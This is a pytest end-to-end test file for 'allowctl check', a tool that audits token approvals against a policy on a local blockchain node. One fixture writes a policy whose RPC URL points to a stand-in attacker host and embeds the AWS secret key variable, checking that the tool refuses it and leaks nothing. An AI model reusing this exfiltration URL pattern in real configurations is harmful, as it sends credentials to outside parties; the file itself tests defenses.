"""`allowctl check`: every exit code, and what each result says, on a real node."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
from collections.abc import Iterator
from pathlib import Path

import junitparser
import pytest
from eth_utils.address import to_checksum_address

from tests.e2e.command import allowctl, command, environment
from tests.e2e.policies import Project, Treasury
from tests.fakes.range_proxy import Refused
from tests.fakes.scripted_proxy import ScriptedProxy
from tests.lab.world import MAX, World
from tests.nodes.anvil import Anvil
from tests.nodes.process import started

pytestmark = [pytest.mark.node, pytest.mark.xdist_group("check")]


@pytest.fixture(scope="module")
def treasury() -> Iterator[Treasury]:
    with Anvil() as anvil:
        yield Treasury.on(anvil)


@pytest.fixture
def project(treasury: Treasury, tmp_path: Path) -> Project:
    return Project(folder=tmp_path, treasury=treasury)


def test_what_is_allowed_passes(project: Project) -> None:
    """0: the only approval that is bad enough has an entry."""
    project.write(project.treasury.allow(project.treasury.key))
    done = project.check("--json")

    assert (done.code, done.document["violated"]) == (0, False)
    (covered,) = done.document["violations"]
    assert covered["cover"]["reason"] == "settlement, OPS-12"


def test_what_is_not_allowed_fails(project: Project) -> None:
    """1: and the violation names the approval, the wallet and the policy's line."""
    project.write("\n[policy]\n", 'fail_on = "high"\n')
    done = project.check("--json")

    assert done.code == 1
    (violation,) = done.document["violations"]
    assert violation["check"] == "fail-on"
    assert violation["wallet"] == "treasury"
    assert violation["spender"] == to_checksum_address(project.treasury.key)
    assert violation["place"] == {
        "file": "allowctl.toml",
        "line": 9,
        "key": "policy.fail_on",
    }


def test_an_amount_above_its_entry_fails(project: Project) -> None:
    """1: an entry covers no more than its max_amount."""
    treasury = project.treasury
    allowed = treasury.allow(treasury.key, max_amount='"1000"')
    project.write(allowed)
    assert project.check("-q").code == 1
    project.write(treasury.allow(treasury.key, max_amount=f'"{MAX}"'))
    assert project.check("-q").code == 0


def test_exit_zero_and_fail_on_steer_the_end(project: Project) -> None:
    """--exit-zero ends with 0; --fail-on takes the place of the policy's level."""
    project.write()
    assert project.check("--exit-zero").code == 0
    project.write(project.treasury.allow(project.treasury.key))
    assert project.check().code == 0
    assert project.check("--fail-on", "info").code == 1


def test_what_cannot_be_followed_is_a_usage_error(project: Project) -> None:
    """2: a key that there is not, no file, no wallet, no such wallet."""
    project.write("\n[policy]\nfail_no = 1\n")
    done = project.check()
    assert done.code == 2
    assert "allowctl.toml:9: policy.fail_no is no key" in done.err
    assert "did you mean fail_on?" in done.err
    (project.folder / "allowctl.toml").write_text("version = 1\n")
    assert project.check().code == 2
    project.write()
    assert "treasury" in project.check("treasuri").err
    (project.folder / "allowctl.toml").unlink()
    assert "allowctl policy init" in project.check().err


def test_what_was_not_served_is_incomplete(project: Project) -> None:
    """3: it fails closed where nobody serves the chain, unless that is forgiven."""
    project.write(project.treasury.allow(project.treasury.key))
    nobody = "http://127.0.0.1:9"
    for options in ([], ["--exit-zero"]):
        done = project.check("--json", *options, url=nobody)
        assert done.code == 3
        assert done.document["complete"] is False
        assert done.document["open_ends"]


def test_a_gap_is_forgiven_by_name_alone(project: Project) -> None:
    """3, and 0 with --allow-incomplete of that chain: what was read has passed."""
    project.write(project.treasury.allow(project.treasury.key))
    upstream = project.treasury.world.anvil.url
    with ScriptedProxy(upstream) as proxy:
        proxy.refused_methods = {"eth_getLogs": Refused(message="busy")}
        assert project.check("--no-cache", url=proxy.url).code == 3
        other = ("--allow-incomplete", "base")
        assert project.check("--no-cache", *other, url=proxy.url).code == 3
        same = ("--allow-incomplete", "anvil")
        assert project.check("--no-cache", *same, url=proxy.url).code == 0


def test_a_violation_comes_before_a_gap(treasury: Treasury, tmp_path: Path) -> None:
    """1 and not 3 where both apply: what is known to be wrong is told."""
    project = Project(folder=tmp_path, treasury=treasury)
    served = f'\n[chains.anvil]\nrpc = ["{treasury.world.anvil.url}"]\n'
    project.write(served, "\n[chains.base]\n", 'rpc = ["http://127.0.0.1:9"]\n')
    text = (tmp_path / "allowctl.toml").read_text()
    (tmp_path / "allowctl.toml").write_text(
        text.replace('["anvil"]', '["anvil", "base"]')
    )
    done = project.check("--json", url="")
    assert done.code == 1
    assert done.document["complete"] is False


def test_a_bug_is_an_internal_error(project: Project) -> None:
    """70: a bug never looks like a verdict."""
    project.write()
    patch = project.folder / "patch"
    patch.mkdir()
    (patch / "sitecustomize.py").write_text(
        "import allowctl.policy.evaluate as e\n"
        "def broken(*_, **__): raise ZeroDivisionError('SECRET')\n"
        "e.evaluate = broken\n"
    )
    done = allowctl(
        "check",
        "--rpc-url",
        project.treasury.world.anvil.url,
        cwd=project.folder,
        env={"PYTHONPATH": str(patch)},
    )
    assert done.code == 70
    assert "internal error: ZeroDivisionError" in done.err
    assert "SECRET" not in done.err


def test_ctrl_c_is_an_interruption(project: Project) -> None:
    """130: and nothing is written under the names that were asked for."""
    project.write()
    with ScriptedProxy(project.treasury.world.anvil.url) as proxy:
        asked = ("check", "-r", proxy.url, "-o", "sarif=out.sarif")
        env = environment(project.folder / "home")
        with started(command(*asked), env=env, cwd=project.folder) as process:
            proxy.cues["eth_getLogs"] = lambda: process.send_signal(2)
            _, err = process.communicate(timeout=60)
    assert process.returncode == 130
    assert b"interrupted" in err
    assert not (project.folder / "out.sarif").exists()


def test_many_results_at_once(project: Project) -> None:
    """One run prints the table and writes every other format, each whole."""
    project.write("\n[policy]\nrefused = 'fail'\n")
    names = {
        "json": "r.json",
        "ndjson": "r.ndjson",
        "csv": "r.csv",
        "markdown": "r.md",
        "sarif": "r.sarif",
        "junit": "r.xml",
        "github": "r.txt",
    }
    wanted = [each for k, v in names.items() for each in ("-o", f"{k}={v}")]
    done = project.check(*wanted)
    texts = {
        name: (project.folder / file).read_text("utf-8") for name, file in names.items()
    }

    assert done.code == 1
    count = len([v for v in json.loads(texts["json"])["violations"] if v["fails"]])
    assert count == 1 + 2
    assert len(texts["ndjson"].splitlines()) >= count + 1
    assert len(list(csv.DictReader(io.StringIO(texts["csv"])))) >= count
    (run,) = json.loads(texts["sarif"])["runs"]
    assert len(run["results"]) == count
    suites = junitparser.JUnitXml.fromfile(str(project.folder / "r.xml"))
    assert suites.failures == count
    assert texts["github"].count("::error ") == count
    for text in texts.values():
        assert str(project.folder) not in text
        assert project.treasury.world.anvil.url not in text


def test_the_step_summary_is_added_to(project: Project) -> None:
    """GITHUB_STEP_SUMMARY gets the Markdown behind what is there already."""
    project.write()
    summary = project.folder / "summary.md"
    summary.write_text("# before\n")
    url = project.treasury.world.anvil.url
    done = allowctl(
        *("check", "-r", url, "--format", "github"),
        cwd=project.folder,
        env={"GITHUB_STEP_SUMMARY": str(summary)},
    )
    assert done.code == 1
    assert done.out.startswith("::error file=allowctl.toml,line=")
    text = summary.read_text("utf-8")
    assert text.startswith("# before\n")
    assert "treasury" in text


def test_a_baseline_lets_pass_what_was_known(tmp_path: Path) -> None:
    """What --write-baseline wrote down passes, until its amount rises."""
    with Anvil() as anvil:
        world = World(anvil)
        token = world.token()
        key = world.spenders[0]
        world.approve(token, key, 1_000)
        treasury = Treasury(world=world, token=token, key=key, vault=key, fake=key)
        project = Project(folder=tmp_path, treasury=treasury)
        project.write('\n[baseline]\nfile = "known.json"\n')

        assert project.check().code == 2
        assert project.check("--write-baseline", "known.json").code == 0
        assert project.check().code == 0
        world.approve(token, key, 999)
        assert project.check().code == 0
        world.approve(token, key, 1_001)
        assert project.check().code == 1
        (tmp_path / "known.json").write_text("[]")
        done = project.check()
        assert done.code == 2
        assert "--write-baseline FILE" in done.err
        assert project.check("--write-baseline", "other.json").code == 2
        assert project.check("--write-baseline", "known.json").code == 0
        assert project.check().code == 0


def test_a_baseline_is_written_out_of_what_is_whole_alone(project: Project) -> None:
    """An outage leaves the old one as it is; one nobody looks into is told of."""
    project.write('\n[baseline]\nfile = "known.json"\n')
    assert project.check("--write-baseline", "known.json").code == 0
    known = project.folder / "known.json"
    before = known.read_bytes()
    nobody = "http://127.0.0.1:9"
    done = project.check("--write-baseline", "known.json", url=nobody)
    assert (done.code, known.read_bytes()) == (3, before)
    assert "no baseline is written" in done.err

    project.write()
    done = project.check("--write-baseline", "other.json")
    assert done.code == 1
    assert "the policy does not look into it yet" in done.err
    assert (project.folder / "other.json").exists()


@pytest.mark.parametrize(
    "outputs",
    [
        ("-o", "allowctl.toml"),
        ("-o", "json=known.json"),
        ("--write-baseline", "allowctl.toml"),
        ("--write-baseline", "x.json", "-o", "json=x.json"),
        ("-o", "sarif=x", "-o", "./x"),
    ],
)
def test_no_result_takes_the_place_of_another(
    project: Project, outputs: tuple[str, ...]
) -> None:
    """2, before anything is read: not the policy, its baseline, or another result."""
    path = project.write('\n[baseline]\nfile = "known.json"\n')
    before = path.read_bytes()
    done = project.check(*outputs, url="http://127.0.0.1:9")
    assert done.code == 2
    assert "cannot write" in done.err
    assert path.read_bytes() == before


def test_no_result_goes_through_a_link(project: Project) -> None:
    """In a checkout a link may be anybody's: what it leads to stays as it is."""
    project.write()
    precious = project.folder / "home.txt"
    precious.write_text("precious")
    (project.folder / "allowctl.json").symlink_to(precious)
    for options in (
        ["-o", "json=allowctl.json"],
        ["--write-baseline", "allowctl.json"],
    ):
        done = project.check(*options, url="http://127.0.0.1:9")
        assert (done.code, precious.read_text()) == (2, "precious")
        assert "It is a link" in done.err


def test_a_pipe_is_no_summary(project: Project) -> None:
    """A summary that is no plain file would wait for ever: it is told, and left."""
    project.write(project.treasury.allow(project.treasury.key))
    pipe = project.folder / "pipe"
    os.mkfifo(pipe)
    url = project.treasury.world.anvil.url
    done = allowctl(
        *("check", "-r", url, "--format", "github"),
        cwd=project.folder,
        env={"GITHUB_STEP_SUMMARY": str(pipe)},
    )
    assert done.code == 0
    assert "no step summary" in done.err


def test_an_error_is_an_annotation_too(project: Project) -> None:
    """A workflow whose policy is wrong shows why, and not only a red cross."""
    project.write("\n[policy]\nfail_no = 1\n")
    done = project.check("--format", "github")
    assert done.code == 2
    assert done.out.startswith("::error title=allowctl check::")
    assert "policy.fail_no is no key" in done.out


def test_a_probe_finds_what_no_log_names(project: Project) -> None:
    """[[probe]] reads a pair that emitted nothing for this wallet."""
    treasury = project.treasury
    other = treasury.world.token("Other", "OTH")
    pair = (
        f'\n[[probe]]\nchain = "anvil"\ntoken = "{to_checksum_address(other)}"\n'
        f'spender = "{to_checksum_address(treasury.vault)}"\n'
    )
    project.write(pair, treasury.allow(treasury.key))
    (found,) = project.check("--json").document["scans"]
    project.write(treasury.allow(treasury.key))
    (plain,) = project.check("--json").document["scans"]
    assert found["counts"]["dead"] > plain["counts"]["dead"]


def test_expired_and_unused_entries_are_told(project: Project) -> None:
    """An entry that has expired fails and covers nothing; an idle one is a warning."""
    treasury = project.treasury
    project.write(
        treasury.allow(treasury.key, expires="2020-01-01"),
        treasury.allow(treasury.fake, reason='"gone"'),
    )
    done = project.check("--json")
    said = {v["check"]: v["action"] for v in done.document["violations"]}
    assert done.code == 1
    assert said == {
        "fail-on": "deny",
        "allow-expired": "deny",
        "allow-unused": "warn",
    }


def test_a_policy_that_was_made_from_the_wallet_passes(project: Project) -> None:
    """`policy init` proposes what is there; with the worst allowed, all passes."""
    anvil = project.treasury.world.anvil.url
    owner = project.treasury.world.owner
    done = allowctl("policy", "init", owner, "-r", anvil, cwd=project.folder)
    path = project.folder / "allowctl.toml"
    assert (done.code, path.exists()) == (0, True)
    assert project.check().code == 1
    path.write_text(
        path.read_text("utf-8")
        + project.treasury.allow(project.treasury.key).replace(
            'wallet = "treasury"\n', ""
        )
    )
    assert project.check().code == 0
    assert allowctl("policy", "validate", cwd=project.folder).code == 0


def test_a_hostile_policy_leaks_and_signs_nothing(project: Project) -> None:
    """Somebody's endpoint, a secret in its URL, a file that others may write."""
    path = project.write(
        '\n[chains.anvil]\nrpc = ["https://evil.example/${AWS_SECRET_ACCESS_KEY}"]\n'
    )
    secret = {"AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI"}
    done = allowctl("check", cwd=project.folder, env=secret)
    assert done.code == 2
    assert "AWS_SECRET_ACCESS_KEY" in done.err
    assert "wJalr" not in done.err + done.out
    path.chmod(0o666)
    done = allowctl("check", cwd=project.folder, env=secret)
    assert done.code == 2
    assert "others may write it" in done.err


def test_somebodys_endpoint_is_told_of(project: Project) -> None:
    """A found file's endpoint is asked for what is checked, and that is said."""
    with ScriptedProxy(project.treasury.world.anvil.url) as proxy:
        project.write(f'\n[chains.anvil]\nrpc = ["{proxy.url}"]\n')
        done = allowctl("check", cwd=project.folder)
    assert done.code == 1
    assert "endpoints of" in done.err
    assert not any(method.startswith("eth_send") for method in proxy.counts)


def test_no_terminal_and_a_closed_stdout(project: Project) -> None:
    """Without anybody to read it ends in good order, with no traceback."""
    project.write()
    env = environment(project.folder / "home")
    url = project.treasury.world.anvil.url
    done = subprocess.run(
        [*command("check", "-r", url), "-o", "r.json"],
        env=env,
        cwd=project.folder,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        check=False,
    )
    assert done.returncode == 1
    assert done.stdout == b""
    assert json.loads((project.folder / "r.json").read_text("utf-8"))["violated"]
    assert b"Traceback" not in done.stderr
